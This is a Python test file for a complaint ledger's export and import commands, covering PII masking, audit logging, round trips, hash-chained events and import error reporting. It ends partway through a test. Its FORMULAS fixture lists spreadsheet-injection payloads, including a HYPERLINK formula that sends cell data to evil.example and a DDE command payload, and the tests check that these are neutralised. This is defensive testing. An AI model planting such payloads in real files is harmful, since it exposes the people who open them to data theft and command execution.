"""Export and import (`tsk export`, `tsk import`; docs/rules.md, Data care): every field of every
complaint in ref order, masked unless asked and then audited; an export imported into an
empty ledger exports again byte for byte; a bad file names its line and field and leaves the
ledger untouched; imported complaints get one hash-chained "imported" event each."""

from __future__ import annotations

import csv
import io
import json
import sqlite3

import pytest
from helpers import Live

from tsk import baseline, fields, history, views
from tsk.context import Ledger
from tsk.exchange import check as import_check
from tsk.exchange import export
from tsk.exchange import read as import_read
from tsk.exchange import write as import_write
from tsk.values import id_check_ok


@pytest.fixture
def tsk(tsk, monkeypatch):
    """Each command entered when it happened (helpers.Live): backdated entries are not what these tests are about."""
    return Live(monkeypatch, tsk)

RECEIVED = "2026-08-03 10:00"
ID_A = "11010519491231002X"  # GB 11643 example, valid check digit
TRICKY = '多收年费, 说是"系统自动扣"\n第二行：要求退还'
BASE = ["--customer", "张三", "--channel", "phone", "--category", "service", "--business-type", "card",
        "--cause", "service-quality", "--unit", "城关支行", "--received", RECEIVED]


def add(tsk, *extra: str) -> str:
    run = tsk(["add", *BASE, *extra])
    assert run.exit_code == 0, run.stderr
    return run.stdout.split()[0]


@pytest.fixture
def filled(tsk):
    """Four complaints in four states, with Chinese text, commas, quotes and newlines."""
    a = add(tsk, "--phone", "13812345678", "--id-number", ID_A, "--summary", TRICKY, "--demand", "退款, 道歉")
    b = add(tsk, "--summary", "群体投诉", "--group-size", "6", "--severity", "major", "--conflict", "王五")
    c = add(tsk, "--summary", "转办", "--channel", "regulator", "--referred-by", "人民银行", "--referral-ref", "银转〔2026〕7号")
    d = add(tsk, "--summary", "撤回的", "--direct")
    assert tsk(["assign", a, "--to", "李四", "--unit", "个金部"]).exit_code == 0
    assert tsk(["extend", a, "--days", "3", "--reason", "复杂", "--notified-via", "sms"]).exit_code == 0
    assert tsk(["close", a, "--result", "partly", "--resolution", '退还年费, "已致歉"', "--notified-via", "phone",
                "--compensation", "19.99", "--root-cause", "系统参数", "--rectification", "修改参数\n并培训",
                "--satisfaction", "fair"]).exit_code == 0
    assert tsk(["close", c, "--result", "upheld", "--resolution", "已处理", "--notified-via", "letter"]).exit_code == 0
    assert tsk(["withdraw", d, "--reason", "客户撤回"]).exit_code == 0
    return [a, b, c, d]


def export_bytes(tsk, tmp_path, *args: str, name: str = "out") -> bytes:
    path = tmp_path / name
    run = tsk(["export", *args, "-o", str(path)])
    assert run.exit_code == 0, run.stderr
    return path.read_bytes()


def events_of(ledger_file: str, ref: str) -> list[tuple]:
    with sqlite3.connect(ledger_file) as db:
        return db.execute("SELECT e.seq, e.action, e.details FROM event e JOIN complaint c ON c.id = e.complaint_id "
                          "WHERE c.ref = ? ORDER BY seq", (ref,)).fetchall()


def count(ledger_file: str, table: str) -> int:
    with sqlite3.connect(ledger_file) as db:
        return db.execute(f"SELECT count(*) FROM {table}").fetchone()[0]


# -- export ------------------------------------------------------------------------------------
def test_csv_export_has_every_field_in_ref_order_with_pii_masked(tsk, filled):
    run = tsk("export")
    assert run.exit_code == 0, run.stderr
    rows = list(csv.reader(io.StringIO(run.stdout)))
    assert rows[0] == list(fields.EXPORT_FIELDS)
    records = [dict(zip(rows[0], r)) for r in rows[1:]]
    assert [r["ref"] for r in records] == filled  # every status by default, in ref order
    a, b, c, d = records
    assert (a["customer_phone"], a["customer_id_number"]) == ("138****5678", "110***********002X")
    assert a["summary"] == TRICKY and a["resolution"] == '退还年费, "已致歉"'
    assert (a["status"], a["result"], a["compensation"], a["extended_days"], a["assignee"]) == ("closed", "partly", "19.99", "3", "李四")
    assert a["flags"] == "extended"
    assert b["flags"] == "group;major;emergency" and b["level"] == "3" and b["conflicts"] == '["王五"]'
    assert c["flags"] == "referred" and c["referral_ref"] == "银转〔2026〕7号"
    assert d["status"] == "withdrawn" and d["flags"] == "direct" and d["reason"] == "客户撤回"
    assert a["customer_email"] == "" and b["customer_phone"] == ""  # null is empty


def test_export_filters_like_list(tsk, filled):
    def refs(*args):
        run = tsk(["export", "--format", "jsonl", *args])
        assert run.exit_code == 0, run.stderr
        return [json.loads(line)["ref"] for line in run.lines]

    assert refs("--status", "open") == [filled[1]]
    assert refs("--status", "closed") == [filled[0], filled[2]]
    assert refs("--assignee", "李四") == [filled[0]]
    assert refs("--since", "2026-08-04") == []
    assert refs("--until", "2026-08-03", "--category", "服务类") == filled


def test_json_export_is_one_streamed_array_with_flags_as_lists(tsk, filled):
    run = tsk(["export", "--format", "json"])
    assert run.exit_code == 0, run.stderr
    document = json.loads(run.stdout)
    assert [list(r) for r in document] == [list(fields.EXPORT_FIELDS)] * 4
    assert document[1]["flags"] == ["group", "major", "emergency"] and document[1]["level"] == 3
    assert document[0]["compensation"] == 19.99 and document[0]["customer_phone"] == "138****5678"
    assert document[3]["direct"] == 1 and document[3]["customer_id_number"] is None
    lines = run.stdout.splitlines()
    assert lines[0] == "[" and lines[-1] == "]" and len(lines) == 6  # one object per line, deterministic
    assert lines[1] == "  " + json.dumps(document[0], ensure_ascii=False) + ","


def test_empty_exports(tsk):
    assert tsk(["export", "--format", "json"]).stdout == "[]\n"
    assert tsk(["export", "--format", "jsonl"]).stdout == ""
    assert tsk("export").stdout == ",".join(fields.EXPORT_FIELDS) + "\n"


def test_excel_export_is_utf8_with_bom_and_crlf(tsk, tmp_path, filled):
    data = export_bytes(tsk, tmp_path, "--excel")
    assert data.startswith(b"\xef\xbb\xbfref,status,")
    text = data.decode("utf-8-sig")
    assert text.count("\r\n") == 5  # header and four rows; the newline inside a summary stays bare
    assert "第二行" in text and '"多收年费, 说是""系统自动扣""\n第二行：要求退还"' in text
    assert tsk(["export", "--excel", "--format", "json"]).exit_code != 0


# Cells a spreadsheet would run (OWASP CSV injection), and one that looks neutralised already.
FORMULAS = {"summary": '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")', "demand": "+cmd|' /C calc'!A0",
            "customer_name": "@SUM(1+1)", "unit": "-2+3", "subject_staff": "'=已是引号"}


@pytest.fixture
def formulas(tsk):
    options = [f"--{key.replace('_', '-').replace('customer-name', 'customer')}={value}" for key, value in FORMULAS.items()]
    run = tsk(["add", *BASE, *options, "--phone", "+8613812345678"])
    assert run.exit_code == 0, run.stderr
    return run.stdout.split()[0]


def excel_rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("pii", [[], ["--show-pii"]], ids=["masked", "unmasked"])
def test_excel_export_neutralises_every_cell_a_spreadsheet_would_run(tsk, tmp_path, formulas, pii):
    (row,) = excel_rows(export_bytes(tsk, tmp_path, "--excel", *pii))
    for key, value in FORMULAS.items():
        assert row[key] == "'" + value, key
    assert row["customer_phone"] == ("'+8613812345678" if pii else "'+86*******5678")  # a phone is text too
    assert row["ref"] == formulas and row["received_at"].startswith("2026-08-03")  # the rest as they were
    (plain,) = excel_rows(export_bytes(tsk, tmp_path, *pii, name="plain"))  # for scripts: verbatim
    assert all(plain[key] == value for key, value in FORMULAS.items())


def test_an_excel_export_imports_back_to_the_same_text(tsk, tmp_path, formulas):
    first = export_bytes(tsk, tmp_path, "--excel", "--show-pii", name="first")
    other = str(tmp_path / "other.db")
    assert tsk(["--db", other, "import", str(tmp_path / "first")]).exit_code == 0
    assert json.loads(tsk(["--db", other, "export", "--show-pii", "-f", "jsonl"]).stdout) == \
        json.loads(tsk(["export", "--show-pii", "-f", "jsonl"]).stdout)
    assert export_bytes(tsk, tmp_path, "--excel", "--show-pii", name="second") == first


@pytest.mark.parametrize("text", ["=1", "+", "-", "@x", "\tx", "\rx", "'", "'=1", "''=1", "'x", "x=1", "", "张三"])
def test_neutralising_is_undone_exactly(text):
    from tsk.render.output import FORMULA_START, for_spreadsheet, from_spreadsheet

    shown = for_spreadsheet(text)
    assert from_spreadsheet(shown) == text
    assert not shown.startswith(FORMULA_START)


def test_unmasked_export_is_recorded_once_as_an_audit_row(tsk, ledger_path, filled):
    events_before = count(ledger_path, "event")
    run = tsk(["--as", "auditor", "export", "--show-pii", "--status", "closed"])
    assert run.exit_code == 0
    assert "13812345678" in run.stdout and ID_A in run.stdout
    with sqlite3.connect(ledger_path) as db:
        audits = db.execute("SELECT actor, action, details FROM audit WHERE action = 'export-pii'").fetchall()
    assert len(audits) == 1
    actor, _, details = audits[0]
    assert actor == "auditor"
    assert json.loads(details) | {} == {"statuses": ["closed"], "unit": None, "assignee": None, "category": None,
                                        "since": None, "until": None, "format": "csv", "count": 2}
    assert count(ledger_path, "event") == events_before  # not one event per complaint
    tsk("export")  # masked: not recorded
    with sqlite3.connect(ledger_path) as db:
        assert db.execute("SELECT count(*) FROM audit WHERE action = 'export-pii'").fetchone()[0] == 1


# -- round trip ---------------------------------------------------------------------------------
@pytest.mark.parametrize("args", [[], ["--excel"], ["--format", "json"], ["--format", "jsonl"]],
                         ids=["csv", "excel", "json", "jsonl"])
def test_an_export_imported_into_an_empty_ledger_exports_again_byte_for_byte(tsk, tmp_path, filled, args):
    first = export_bytes(tsk, tmp_path, "--show-pii", *args, name="first")
    other = str(tmp_path / "other.db")
    run = tsk(["--db", other, "import", str(tmp_path / "first")])
    assert run.exit_code == 0, run.stderr
    assert run.stdout == f"imported 4 complaint(s) from {tmp_path / 'first'}\n"
    second = tmp_path / "second"
    assert tsk(["--db", other, "export", "--show-pii", *args, "-o", str(second)]).exit_code == 0
    assert second.read_bytes() == first
    assert tsk(["--db", other, "verify"]).stdout.startswith("ok: 4 complaint(s), 4 event(s)")


def test_each_imported_complaint_has_one_imported_event_holding_the_rows_digest(tsk, tmp_path, ledger_path, filled):
    export_bytes(tsk, tmp_path, "--show-pii", name="all.csv")
    other = str(tmp_path / "other.db")
    assert tsk(["--db", other, "--as", "migrator", "import", str(tmp_path / "all.csv")]).exit_code == 0
    events = events_of(other, filled[0])
    assert [(seq, action) for seq, action, _ in events] == [(1, "imported")]
    details = json.loads(events[0][2])
    assert sorted(details) == [baseline.KEY, "source"] and details["source"] == "all.csv"
    with sqlite3.connect(other) as db:
        db.row_factory = sqlite3.Row
        row = dict(db.execute("SELECT * FROM complaint WHERE ref = ?", (filled[0],)).fetchone())
        event = dict(db.execute("SELECT * FROM event WHERE complaint_id = ?", (row["id"],)).fetchone())
    assert row["summary"] == TRICKY and row["compensation_fen"] == 1999 and row["customer_email"] is None
    assert details[baseline.KEY] == baseline.digest(row)
    assert event["actor"] == "migrator" and event["prev_hash"] == ""
    assert event["details"] == history.canonical(details)
    assert event["hash"] == history.event_hash("", filled[0], event) == row["history_head"]
    # The history goes on from there like any other, each change saying what it replaced.
    assert tsk(["--db", other, "reopen", filled[0], "--reason", "申诉"]).exit_code == 0
    reopened = json.loads(events_of(other, filled[0])[1][2])
    assert reopened["was"]["status"] == row["status"] and reopened["changes"]["status"] == "open"
    assert tsk(["--db", other, "verify"]).exit_code == 0


def tamper(ledger_file: str, sql: str, *params) -> None:
    with sqlite3.connect(ledger_file) as db:
        db.execute(sql, params)


@pytest.fixture
def imported(tsk, tmp_path, filled) -> str:
    """A ledger of the four complaints imported, the first then reopened and reassigned."""
    export_bytes(tsk, tmp_path, "--show-pii", name="all.csv")
    other = str(tmp_path / "other.db")
    assert tsk(["--db", other, "import", str(tmp_path / "all.csv")]).exit_code == 0
    assert tsk(["--db", other, "reopen", filled[0], "--reason", "申诉"]).exit_code == 0
    assert tsk(["--db", other, "assign", filled[0], "--to", "王五", "--unit", "个人金融部"]).exit_code == 0
    assert tsk(["--db", other, "verify"]).stdout.startswith("ok: 4 complaint(s), 6 event(s)")
    return other


@pytest.mark.parametrize("column, value, named", [
    ("summary", "改过的", "differs from the record as imported"),  # no later event changed it
    ("customer_phone", "13900000000", "differs from the record as imported"),
    ("status", "closed", "differs from its history in status"),  # the reopen changed it
    ("assignee", "赵六", "differs from its history in assignee"),
])
def test_verify_finds_an_imported_row_edited_behind_tsks_back(tsk, imported, filled, column, value, named):
    tamper(imported, f"UPDATE complaint SET {column} = ? WHERE ref = ?", value, filled[0])
    run = tsk(["--db", imported, "verify"])
    assert run.exit_code != 0
    assert f"{filled[0]}: stored record {named}" in run.stdout + run.stderr
    assert filled[1] not in run.stdout + run.stderr


def test_verify_finds_an_imported_baseline_or_a_replaced_value_rewritten(tsk, imported, filled):
    with sqlite3.connect(imported) as db:
        cid = db.execute("SELECT id FROM complaint WHERE ref = ?", (filled[0],)).fetchone()[0]
        details = json.loads(db.execute("SELECT details FROM event WHERE complaint_id = ? AND seq = 2", (cid,)).fetchone()[0])
    details["was"]["status"] = "rejected"
    tamper(imported, "UPDATE event SET details = ? WHERE complaint_id = ? AND seq = 2", history.canonical(details), cid)
    run = tsk(["--db", imported, "verify"])
    assert run.exit_code != 0
    out = run.stdout + run.stderr
    assert f"{filled[0]} event 2 (reopened): altered after it was recorded" in out
    assert f"{filled[0]}: stored record differs from the record as imported" in out


def test_import_continues_the_ref_sequence_and_keeps_existing_complaints(tsk, tmp_path, filled):
    data = export_bytes(tsk, tmp_path, "--show-pii", "--format", "jsonl")
    records = [json.loads(line) for line in data.decode().splitlines()]
    records[0]["ref"] = "TS-2026-000120"
    records[1]["ref"] = "TS-2025-000007"
    (tmp_path / "in.jsonl").write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records[:2]),
                                       encoding="utf-8")
    other = str(tmp_path / "other.db")
    run = tsk(["--db", other, "add", *BASE, "--summary", "先有的"])
    assert run.stdout.startswith("TS-2026-000001 ")
    assert tsk(["--db", other, "import", str(tmp_path / "in.jsonl")]).exit_code == 0
    assert tsk(["--db", other, "add", *BASE, "--summary", "后来的"]).stdout.startswith("TS-2026-000121 ")
    refs = [json.loads(line)["ref"] for line in tsk(["--db", other, "export", "-f", "jsonl"]).lines]
    assert refs == ["TS-2025-000007", "TS-2026-000001", "TS-2026-000120", "TS-2026-000121"]
    assert tsk(["--db", other, "verify"]).exit_code == 0


def test_import_reads_standard_input(tsk, tmp_path, filled):
    data = export_bytes(tsk, tmp_path, "--show-pii", "--excel")
    other = str(tmp_path / "other.db")
    run = tsk(["--db", other, "import", "-"], input=data.decode("utf-8"))
    assert run.exit_code == 0, run.stderr
    assert run.stdout == "imported 4 complaint(s) from stdin\n"


def test_dry_run_checks_everything_and_writes_nothing(tsk, tmp_path, filled):
    export_bytes(tsk, tmp_path, "--show-pii", name="all.csv")
    other = str(tmp_path / "other.db")
    run = tsk(["--db", other, "import", str(tmp_path / "all.csv"), "--dry-run"])
    assert run.exit_code == 0, run.stderr
    assert run.stdout == f"dry run: 4 complaint(s) in {tmp_path / 'all.csv'} would be imported; nothing was written\n"
    assert count(other, "complaint") == 0 and count(other, "event") == 0


# -- deadlines of imported complaints ------------------------------------------------------------
MINIMAL_HEADER = "ref,received_at,channel,category,business_type,cause,customer_name,unit,summary,severity,group_size\n"


def test_open_complaints_without_deadlines_get_those_add_would_give(tsk, tmp_path):
    expected = json.loads(tsk(["add", *BASE, "--summary", "x", "--severity", "major", "--format", "json"]).stdout)
    plain = json.loads(tsk(["add", *BASE, "--summary", "y", "--format", "json"]).stdout)
    source = tmp_path / "minimal.csv"
    source.write_text(MINIMAL_HEADER
                      + "TS-2026-000500,2026-08-03 10:00,电话,服务类,银行卡,服务态度及服务质量,张三,城关支行,x,重大,1\n"
                      + "TS-2026-000501,2026-08-03T10:00:00+08:00,phone,service,card,service-quality,张三,城关支行,y,,\n",
                      encoding="utf-8")
    other = str(tmp_path / "other.db")
    run = tsk(["--db", other, "import", str(source)])
    assert run.exit_code == 0, run.stderr
    assert "deadlines computed for 2 open complaint(s)" in run.stdout
    got = [json.loads(line) for line in tsk(["--db", other, "export", "-f", "jsonl"]).lines]
    for mine, theirs in zip(got, (expected, plain)):
        for field in ("ack_due", "due", "cap_due", "report_due", "level", "policy", "policy_version", "status", "kind"):
            assert mine[field] == theirs[field], field
    assert got[0]["report_due"] is not None and got[0]["level"] == 3 and got[1]["report_due"] is None
    assert got[0]["first_handler"] == "officer"


def test_complaints_that_carry_their_dates_keep_them(tsk, tmp_path):
    source = tmp_path / "dated.csv"
    source.write_text("ref,received_at,channel,category,business_type,cause,customer_name,unit,summary,ack_due,due,cap_due\n"
                      "TS-2026-000009,2026-08-03 10:00,phone,service,card,other,张三,城关支行,x,2026-08-04,2026-09-30,2026-10-30\n",
                      encoding="utf-8")
    assert tsk(["import", str(source)]).exit_code == 0
    got = json.loads(tsk(["export", "-f", "jsonl"]).stdout)
    assert (got["ack_due"], got["due"], got["cap_due"]) == ("2026-08-04", "2026-09-30", "2026-10-30")


# -- refused files: the line, the field, and nothing written -----------------------------------------
def import_fails(tsk, ledger_path, path, *args) -> list[str]:
    """Import into `ledger_path`: refused, and the ledger exactly as it was."""
    tsk(["--db", ledger_path, "init"])  # the ledger exists (refused, harmlessly, if it did already)
    before = (count(ledger_path, "complaint"), count(ledger_path, "event"), count(ledger_path, "ref_counter"))
    run = tsk(["--db", ledger_path, "import", str(path), *args])
    assert run.exit_code == 1
    assert run.stdout == ""
    assert (count(ledger_path, "complaint"), count(ledger_path, "event"), count(ledger_path, "ref_counter")) == before
    lines = run.stderr.splitlines()
    assert all(line.startswith("Error: ") for line in lines)
    return lines


@pytest.fixture
def exported(tsk, tmp_path, filled):
    """The filled ledger's unmasked CSV export, as rows; the ledger emptied of nothing."""
    data = export_bytes(tsk, tmp_path, "--show-pii", name="all.csv").decode()
    return list(csv.reader(io.StringIO(data)))


def write_csv(path, rows) -> None:
    with open(path, "w", encoding="utf-8", newline="") as out:
        csv.writer(out, lineterminator="\n").writerows(rows)


def import_with_third_record(tsk, tmp_path, exported, field: str, value: str) -> tuple[str, list[str]]:
    """The export with the third record's `field` set to `value`, imported into a new ledger:
    the file, and the refusal's lines. The third record starts on line 6: the first spans 3."""
    header, rows = exported[0], exported[1:]
    rows[2][header.index(field)] = value
    path = tmp_path / "bad.csv"
    write_csv(path, [header, *rows])
    return str(path), import_fails(tsk, str(tmp_path / "other.db"), path)


def test_a_bad_value_names_the_file_line_and_field(tsk, tmp_path, exported):
    path, lines = import_with_third_record(tsk, tmp_path, exported, "channel", "tel")
    assert lines[0].startswith(f"Error: {path} line 6, field channel: 'tel' is not one of: phone (电话), in-person (现场)")
    assert lines[-1] == f"Error: 1 problem(s) in {path}; nothing was imported"


def test_lines_are_counted_across_crlf_blank_lines_and_breaks_inside_values(tsk, tmp_path, exported):
    header, rows = exported[0], exported[1:]
    rows[0][header.index("demand")] = "一\r\n二\r三\n四"  # three more lines, as a text editor would count them
    rows[2][header.index("channel")] = "tel"
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerow(rows[0])  # line 2, spanning 2 + 3 lines of the summary's and the demand's breaks
    out.write("\r\n")  # a blank line
    for row in rows[1:]:
        writer.writerow(row)
    path = tmp_path / "crlf.csv"
    path.write_bytes(out.getvalue().encode("utf-8"))
    with open(path, newline="", encoding="utf-8") as text:  # where each record starts, read line by line
        reader, starts, line = csv.reader(text), [], 1
        for values in reader:
            if values:
                starts.append(line)
            line = reader.line_num + 1
    assert starts[:3] == [1, 2, 9]  # the header; the first record spans 2 + 3 + 1 lines, then the blank one
    lines = import_fails(tsk, str(tmp_path / "other.db"), path)
    assert lines[0].startswith(f"Error: {path} line {starts[3]}, field channel: 'tel' is not one of")


def test_every_problem_is_listed_with_its_line(tsk, tmp_path, exported):
    header, rows = exported[0], exported[1:]
    col = header.index
    rows[0][col("received_at")] = "2026-13-40"
    rows[1][col("ref")] = "TS-26-1"
    rows[2][col("ref")] = rows[3][col("ref")]
    rows[3][col("due")] = "next week"
    extra = list(rows[3])
    extra[col("ref")] = "TS-2026-000077"
    extra[col("customer_name")] = ""
    path = tmp_path / "bad.csv"
    write_csv(path, [header, *rows, extra])
    lines = import_fails(tsk, str(tmp_path / "other.db"), path)
    assert lines == [
        f"Error: {path} line 2, field received_at: '2026-13-40' is not a date and time (like 2026-11-23T14:05:00+08:00)",
        f"Error: {path} line 5, field ref: 'TS-26-1' is not a complaint ref (like TS-2026-000123)",
        f"Error: {path} line 7, field due: 'next week' is not a date (YYYY-MM-DD)",
        f"Error: {path} line 8, field customer_name: missing (required)",
        f"Error: 4 problem(s) in {path}; nothing was imported",
    ]


def test_duplicate_refs_in_the_file_and_in_the_ledger_are_refused(tsk, tmp_path, ledger_path, exported):
    header, rows = exported[0], exported[1:]
    path = tmp_path / "dup.csv"
    write_csv(path, [header, rows[1], rows[1]])
    other = tmp_path / "other.db"
    lines = import_fails(tsk, ledger_path, path)  # the filled ledger has them already
    assert lines[:2] == [f"Error: {path} line 2, field ref: {rows[1][0]} is already in the ledger",
                         f"Error: {path} line 3, field ref: {rows[1][0]} appears twice in the file (first at line 2)"]
    assert tsk(["--db", str(other), "init"]).exit_code == 0
    assert tsk(["--db", str(other), "import", str(path)]).stderr.splitlines()[0] == (
        f"Error: {path} line 3, field ref: {rows[1][0]} appears twice in the file (first at line 2)")
    assert count(str(other), "complaint") == 0


def test_a_masked_export_cannot_be_imported(tsk, tmp_path, filled):
    export_bytes(tsk, tmp_path, name="masked.csv")
    other = tmp_path / "other.db"
    assert tsk(["--db", str(other), "init"]).exit_code == 0
    run = tsk(["--db", str(other), "import", str(tmp_path / "masked.csv")])
    assert run.exit_code == 1
    assert run.stderr.splitlines()[0] == (
        f"Error: {tmp_path / 'masked.csv'} line 2, field customer_phone: '138****5678' is masked: this file was "
        "exported without --show-pii and cannot be imported without losing the customer's data; "
        "export it again with --show-pii")
    assert count(str(other), "complaint") == 0


def test_json_problems_name_the_record_and_its_line(tsk, tmp_path, filled):
    data = json.loads(export_bytes(tsk, tmp_path, "--show-pii", "--format", "json"))
    data[2]["severity"] = "catastrophic"
    data[3]["group_size"] = 0
    path = tmp_path / "bad.json"
    text = json.dumps(data, ensure_ascii=False, indent=1)
    path.write_text(text, encoding="utf-8")
    other = tmp_path / "other.db"
    assert tsk(["--db", str(other), "init"]).exit_code == 0
    run = tsk(["--db", str(other), "import", str(path)])
    assert run.exit_code == 1
    starts = [n for n, line in enumerate(text.splitlines(), start=1) if line == " {"]
    line_of = dict(enumerate(starts))
    lines = run.stderr.splitlines()
    assert lines[0].startswith(f"Error: {path} record 3 (line {line_of[2]}), field severity: 'catastrophic' is not one of")
    assert lines[1] == f"Error: {path} record 4 (line {line_of[3]}), field group_size: 0 is out of range (1 or more)"
    assert count(str(other), "complaint") == 0


def test_malformed_files_are_refused_with_the_line(tsk, tmp_path):
    cases = {
        "broken.json": ('[\n  {"ref": "TS-2026-000001"},\n  {"ref": \n', "line 4: not valid JSON"),
        "unclosed.json": ('[\n  {"ref": "TS-2026-000001"}\n', "line 3: expected , or ] after record 1"),
        "broken.jsonl": ('{"ref": "TS-2026-000001"}\n{"ref": oops}\n', "line 2: not valid JSON"),
        "unknown.csv": ("ref,colour\nTS-2026-000001,red\n", "line 1, field colour: not an export column"),
        "ragged.csv": (MINIMAL_HEADER + "TS-2026-000001,2026-08-03,phone\n", "line 2: 3 values, the header has 11"),
        "empty.csv": ("", "is empty: expected a header row of export columns"),
    }
    for name, (text, message) in cases.items():
        path = tmp_path / name
        path.write_text(text, encoding="utf-8")
        run = tsk(["import", str(path)])
        assert run.exit_code == 1, name
        assert run.stderr.splitlines()[0].startswith(f"Error: {path} {message}"), (name, run.stderr)
    gbk = tmp_path / "gbk.csv"
    gbk.write_bytes(MINIMAL_HEADER.encode() + "TS-2026-000001,2026-08-03,电话\n".encode("gbk"))
    assert tsk(["import", str(gbk)]).stderr.startswith(f"Error: {gbk} is not UTF-8 text")
    assert tsk(["import", str(tmp_path / "missing.csv")]).stderr.startswith("Error: cannot read")


def test_unknown_policy_and_inconsistent_lifecycle_are_refused(tsk, tmp_path):
    header = MINIMAL_HEADER.strip() + ",policy,status,closed_at,result\n"
    row = "TS-2026-0000{n},2026-08-03,phone,service,card,other,张三,城关支行,x,,,{policy},{status},{closed},{result}\n"
    path = tmp_path / "bad.csv"
    path.write_text(header
                    + row.format(n=10, policy="nosuch", status="open", closed="", result="")
                    + row.format(n=11, policy="", status="closed", closed="", result="upheld")
                    + row.format(n=12, policy="", status="closed", closed="2026-08-10 09:00", result="")
                    + row.format(n=13, policy="", status="open", closed="2026-08-10 09:00", result=""), encoding="utf-8")
    lines = tsk(["import", str(path)]).stderr.splitlines()
    assert lines[0].startswith(f"Error: {path} line 2, field policy: 'nosuch' (known: cbrc2012")
    assert lines[1] == f"Error: {path} line 3, field closed_at: missing: a closed complaint needs the time it was closed"
    assert lines[2] == f"Error: {path} line 4, field result: missing: a closed complaint needs its result"
    assert lines[3].startswith(f"Error: {path} line 5, field closed_at: an open complaint has no closing time")


# -- large files: batches, deferred indexes, all or nothing ---------------------------------------------
def big_csv(path, n: int, *, bad_last: bool = False) -> None:
    header = MINIMAL_HEADER.strip().split(",")
    rows = [[f"TS-2025-{i:06d}", "2025-06-03 09:00", "phone", "service", "card", "other", f"客户{i}", "城关支行",
             f'第{i}件, "复杂"\n两行', "", ""] for i in range(1, n + 1)]
    if bad_last:
        rows[-1][2] = "pigeon"
    write_csv(path, [header, *rows])


def indexes(ledger_file: str) -> list[str]:
    with sqlite3.connect(ledger_file) as db:
        return sorted(r[0] for r in db.execute("SELECT sql FROM sqlite_master WHERE type = 'index' AND sql IS NOT NULL"))


def test_a_large_import_is_all_or_nothing(tsk, tmp_path, ledger_path):
    tsk("verify")  # create the ledger
    schema = indexes(ledger_path)
    n = import_read.BATCH * 2 + 17
    big_csv(tmp_path / "bad.csv", n, bad_last=True)
    lines = import_fails(tsk, ledger_path, tmp_path / "bad.csv")
    assert lines[0].startswith(f"Error: {tmp_path / 'bad.csv'} line {2 * n}, field channel: 'pigeon'")
    assert indexes(ledger_path) == schema  # dropped for speed inside the transaction, restored by its rollback
    big_csv(tmp_path / "good.csv", n)
    run = tsk(["import", str(tmp_path / "good.csv")])
    assert run.exit_code == 0, run.stderr
    assert count(ledger_path, "complaint") == n and count(ledger_path, "event") == n
    assert indexes(ledger_path) == schema
    assert count(ledger_path, "sqlite_stat1") > 0  # analysed for the planner
    with sqlite3.connect(ledger_path) as db:  # written with a rollback journal, WAL again afterwards
        assert db.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
    assert tsk("verify").stdout.startswith(f"ok: {n} complaint(s), {n} event(s)")
    run = tsk(["export", "--format", "jsonl", "--since", "2025-06-03", "--until", "2025-06-03"])
    assert len(run.lines) == n and json.loads(run.lines[-1])["ref"] == f"TS-2025-{n:06d}"


def test_a_ref_twice_far_apart_in_a_large_file_names_both_lines(tsk, tmp_path, ledger_path):
    tsk("verify")
    n = import_read.BATCH * 2 + 17
    big_csv(tmp_path / "dup.csv", n)
    with open(tmp_path / "dup.csv", "a", encoding="utf-8", newline="") as out:  # record 3 again, as the last
        csv.writer(out, lineterminator="\n").writerow(["TS-2025-000003", "2025-06-03 09:00", "phone", "service", "card",
                                                       "other", "客户", "城关支行", "又一次", "", ""])
    lines = import_fails(tsk, ledger_path, tmp_path / "dup.csv")
    assert lines == [f"Error: {tmp_path / 'dup.csv'} line {2 * n + 2}, field ref: TS-2025-000003 appears twice in the "
                     "file (first at line 6)",
                     f"Error: 1 problem(s) in {tmp_path / 'dup.csv'}; nothing was imported"]


# -- the library -------------------------------------------------------------------------------------
def test_row_columns_are_every_stored_column_but_the_bookkeeping():
    from tsk.store.models import Complaint

    stored = {c.name for c in Complaint.__table__.columns} - set(history.BOOKKEEPING)
    assert set(import_check.ROW_COLUMNS) == stored
    assert len(import_check.ROW_COLUMNS) == len(stored)


def test_imported_events_and_digests_are_lifecycles_and_baselines_for_awkward_text(ledger_path):
    ledger = Ledger.open(ledger_path, 'actor "q"\n')
    awkward = '\\ "引号" \n\t\u2028\x01 😀'
    rows = [{c: None for c in import_check.ROW_COLUMNS} | {"ref": "TS-2026-000001", "summary": awkward, "level": 1,
                                                       "compensation_fen": 5},
            {c: None for c in import_check.ROW_COLUMNS} | {"ref": "TS-2026-000002", "ack_due": "2026-01-02", "reason": "0",
                                                       "compensation_fen": 0, "customer_name": awkward}]
    columns = {c: ["" if row[c] is None else row[c] for row in rows] for c in import_check.ROW_COLUMNS}  # bind form
    digests = baseline.digests(columns)
    assert digests == [baseline.digest(row) for row in rows]
    assert len(set(digests)) == 2
    with ledger.store.transaction():
        writer = import_write.Writer(ledger, "/某处/文件, 1.csv", ledger_empty=True)
        details, hashes = writer.events(columns["ref"], digests)
    for row, text, digest, link in zip(rows, details, digests, hashes):
        assert text == history.canonical({baseline.KEY: digest, "source": "文件, 1.csv"})
        event = {"seq": 1, "at": writer.now, "recorded_at": writer.now, "actor": 'actor "q"\n', "action": "imported",
                 "details": text}
        assert link == history.event_hash("", row["ref"], event)
    ledger.close()


def test_the_baseline_columns_are_the_stored_columns():
    """A new column must be thought about: imported rows would carry it outside their digest."""
    assert sorted(baseline.FORMATS[baseline.KEY]) == sorted(import_check.ROW_COLUMNS)
    from tsk.store.models import Complaint

    integers = {c.name for c in Complaint.__table__.columns if c.type.python_type is int} - {"id", "event_count"}
    assert fields.NUMERIC_COLUMNS == integers


def test_a_nul_character_is_refused_with_its_line_and_field(tsk, tmp_path, exported):
    path, lines = import_with_third_record(tsk, tmp_path, exported, "demand", "前\x00后")
    assert lines == [f"Error: {path} line 6, field demand: contains a NUL character",
                     f"Error: 1 problem(s) in {path}; nothing was imported"]


def test_the_column_checks_give_what_the_record_checks_give(ledger_path):
    """A CSV batch is checked column by column when it can be; the rows must be those that
    `Checker.row` makes one by one, and anything the fast checks cannot decide goes there."""
    ledger = Ledger.open(ledger_path)
    checker = import_check.Checker(ledger)
    header = ["ref", "received_at", "channel", "category", "business_type", "cause", "customer_name", "unit", "summary",
              "status", "closed_at", "result", "customer_id_number", "customer_phone", "ack_due", "due", "cap_due",
